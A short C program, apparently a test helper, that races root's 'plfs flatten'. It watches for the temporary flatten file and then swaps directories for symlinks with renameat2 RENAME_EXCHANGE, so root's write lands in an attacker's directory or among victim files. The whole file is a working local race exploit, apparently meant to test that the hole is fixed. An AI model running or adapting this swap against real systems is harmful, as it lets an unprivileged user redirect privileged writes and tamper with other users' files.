/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * swap DIR CONTAINER EVIL VICTIMS: a user against root's plfs flatten. As soon as the temporary file appears
 * in CONTAINER, a link to the directory EVIL takes its place, with a file of that name. From then on DIR is
 * by turns itself and a link to the directory VICTIMS. Ends when it is killed, or when the file in EVIL is no
 * longer the one that was made.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int find(const char *dir, char *name)
{
	DIR *d = opendir(dir);
	struct dirent *e;
	int found = 0;

	while (d && (e = readdir(d)))
		if (!strncmp(e->d_name, ".plfs-flatten.", 14)) {
			strcpy(name, e->d_name);
			found = 1;
		}
	if (d)
		closedir(d);
	return found;
}

static void exchange(const char *dir, const char *link)
{
	renameat2(AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	char name[256], link[4096], container_link[4096], evil[4096];
	struct stat made, st;
	int fd;

	if (argc != 5)
		return 2;
	snprintf(link, sizeof(link), "%s.link", argv[1]);
	snprintf(container_link, sizeof(container_link), "%s.link", argv[2]);
	if (symlink(argv[4], link) || symlink(argv[3], container_link))
		return 2;
	puts("ready");
	fflush(stdout);
	while (!find(argv[2], name))
		;
	snprintf(evil, sizeof(evil), "%s/%s", argv[3], name);
	fd = open(evil, O_CREAT | O_RDWR, 0644);
	if (fd < 0 || write(fd, "evil\n", 5) != 5 || fstat(fd, &made))
		return 2;
	exchange(argv[2], container_link);
	do {
		exchange(argv[1], link);
	} while (!lstat(evil, &st) && st.st_ino == made.st_ino);
	return 0;
}
